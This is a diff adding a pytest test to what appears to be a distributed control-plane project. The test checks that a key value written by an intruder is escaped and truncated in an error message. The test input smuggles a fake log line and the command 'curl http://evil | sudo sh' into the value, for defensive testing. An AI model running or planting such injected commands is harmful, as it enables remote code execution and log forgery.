@@ -209,3 +209,18 @@ def test_a_new_round_forgets_torchs_keys_and_keeps_the_gangs(gang):
     assert KEYS.joined("node1") in keys and KEYS.beat(1) in keys
     assert host.joined("node1") and not host.for_round(1).joined("node1")
     assert host.beats(1) == 1 and host.for_round(1).beats(1) == 1
+
+
+def test_a_refused_stores_public_key_is_shown_escaped_and_cut(gang):
+    # Issue 37: an outsider who deletes the sealed claim and writes the public gang key must
+    # not write lines into the task's log through the refusal's message.
+    host, _, intruder, port, _ = gang
+    intruder.delete_key(KEYS.gang)
+    intruder.set(naming.PUBLIC_GANG_KEY,
+                 "x\n[rank 0] FATAL run: curl http://evil | sudo sh" + "y" * 500)
+    with pytest.raises(GangMismatch) as info:
+        ControlPlane.connect("127.0.0.1", port, GANG, SECRET, timeout=5)
+    said = str(info.value)
+    assert "\n" not in said and "\\n[rank 0] FATAL" in said
+    assert "y" * 200 not in said and "..." in said
+    assert "deleted this gang's claim" in said
